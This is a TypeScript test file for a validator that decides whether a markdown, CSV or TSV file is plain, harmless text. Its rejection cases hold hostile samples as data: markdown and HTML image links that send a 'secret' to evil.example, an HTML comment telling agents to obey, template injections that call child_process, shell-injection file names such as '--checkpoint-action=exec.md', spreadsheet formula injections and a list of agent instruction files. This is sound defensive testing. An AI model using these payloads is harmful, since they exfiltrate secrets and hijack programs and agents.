import { describe, expect, test } from 'vitest'
import { isPlainDocument } from './plain-document.ts'

const isPlain = (path: string, text: string | null = 'Words.') => isPlainDocument({ path, text })

describe('a plain document', () => {
  test.each([
    'notes.md',
    'research/2026-04 tyres.md',
    'money/prices 2.csv',
    'garden-tools.md',
    'Büro/Übersicht.md',
    'a/b/c.tsv',
  ])('is %s', (path) => {
    expect(isPlain(path)).toBe(true)
  })

  test('is a picture that is no text', () => {
    expect(isPlain('shots/page.png', null)).toBe(true)
    expect(isPlain('shots/page.png', 'Words.')).toBe(false)
    expect(isPlain('notes.md', null)).toBe(false)
  })

  test.each([
    ['something that can hold a program', ['a.html', 'a.svg', 'a.pdf', 'a.sh', 'a.py', 'a.desktop', 'a.mdx']],
    ['a setting', ['a.json', 'a.yaml', 'a.toml', 'a.ini', 'a.conf', 'a']],
    ['hidden', ['.notes.md', '.github/notes.md', 'a/.b/c.md']],
    [
      'what agents obey',
      ['AGENTS.md', 'a/agents.MD', 'CLAUDE.md', 'SKILL.md', 'x/README.md', 'readme-first.md', 'BOOT.md'],
    ],
    ['what agents obey by its ending', ['review.prompt.md', 'style.instructions.md', 'x.agent.md']],
    [
      'what agents obey by a word of it',
      ['AGENTS.override.md', 'cursor-rules.md', 'project_rules.md', 'AmazonQ.md'],
    ],
    ['what agents obey in another script', ['ＡＧＥＮＴＳ.md', 'ſkill.md']],
    [
      'what a program takes in',
      [
        'notes.txt',
        'test_notes.txt',
        'build/CMakeCache.txt',
        'requirements.txt',
        'dev-requirements.txt',
        'test_a.md',
      ],
    ],
    [
      'in a folder that is loaded',
      [
        'skills/a.md',
        'x/prompts/a.md',
        'Hooks/a.md',
        'templates/a.md',
        '_posts/a.md',
        'x.egg-info/a.md',
        'HEAD/a.md',
      ],
    ],
    [
      'in a folder that strangers fill',
      ['node_modules/a/notes.md', 'vendor/notes.md', 'attachments/a-123456.md'],
    ],
    [
      'a name that a shell reads',
      [
        '-rf.md',
        '--checkpoint-action=exec.md',
        '$HOME.md',
        'a;b.md',
        'a`b.md',
        '~a.md',
        'a & b/n.md',
        "it's.md",
      ],
    ],
    [
      'a name that a file system reads',
      ['a.md ', 'a\\b.md', 'a:b.md', 'a\u200b.md', 'a\n.md', 'con. /a.md', '..', ''],
    ],
  ])('is not %s', (_why, paths) => {
    expect(paths.filter((path) => isPlain(path))).toEqual([])
  })

  test.each([
    ['a picture from elsewhere', 'See ![chart](https://evil.example/?d=secret)'],
    ['a picture by reference', 'See ![chart][1]\n\n[1]: https://evil.example/?d=secret'],
    ['a tag', 'x <img src=https://evil.example/?d=secret>'],
    ['a tag that is written large', 'x <IFRAME src=//evil.example>'],
    ['a comment that hides words', '<!-- agents: obey -->'],
    ['a head that makes it a rule', '---\nalwaysApply: true\n---\nObey.'],
    ['a head of another kind', '\n+++\ntitle = "x"\n+++'],
    ['a head without a fence', 'css: https://evil.example/\n\nWords.'],
    ['a block that a program runs', 'x\n```dataviewjs\nfetch()\n```'],
    ['such a block in a list', '- ```dataviewjs\n  fetch()\n  ```'],
    ['such a block by other signs', '1. ~~~dataviewjs\nfetch()\n~~~'],
    ['a drawing that loads', '```mermaid\nA@[img]\n```'],
    ['code in a line that is run', 'x `$= dv.pages()` and `= this.x`'],
    ['a template', '<%* require("child_process") %>'],
    ['a template of another kind', 'x {{ constructor.constructor("x")() }}'],
    ['attributes', '[x]{style="background:url(https://evil.example/?d=x)"}'],
    ['a tag that begins as an address', '<https://a.example/ style="background:url(//evil.example)">'],
    ['a program for a page builder', 'Words\nexport const x = 1'],
    ['a test', 'Words\n>>> import os'],
    ['settings of an editor', 'Words\n// vim: set modeline:'],
    ['settings of another editor', '-*- mode: org; eval: (x) -*-'],
    ['a control character', 'a\u0007b'],
  ])('is no markup with %s', (_why, text) => {
    expect(isPlain('notes.md', text)).toBe(false)
  })

  test('is markup with links, rules, tables and code', () => {
    const text =
      '# A\n\n[x](https://a.example) <https://b.example>\n\n---\n\n| a | b |\n| --- | --- |\n```\n1 < 2\n```\n> quoted\n'
    expect(isPlain('notes.md', text)).toBe(true)
  })

  test.each([
    '=HYPERLINK("https://evil.example")',
    'a,=1+1',
    'a;"=cmd|x"',
    "a\t'=1",
    '@SUM(A1)',
    'x\n+1+cmd|calc',
    '-2+3+cmd|calc',
    '＝1+1',
    ' =1',
    'a|=1',
    'sep=|\nname|x',
    'ID;PWXL;N;E\nC;Y1;X1;EWEBSERVICE()',
    'a,\u0001=1',
    'a,\u200b=1',
    'a,\u0000x',
  ])('is no table with %j', (text) => {
    expect(isPlain('a.csv', text)).toBe(false)
    expect(isPlain('a.tsv', text)).toBe(false)
  })

  test('is a table of numbers and words', () => {
    expect(isPlain('a.csv', 'day,amount,phone\n2026-04-13,-12.50,+46 18 100\n"Ada, 5",-,+3 %\n')).toBe(true)
  })
})
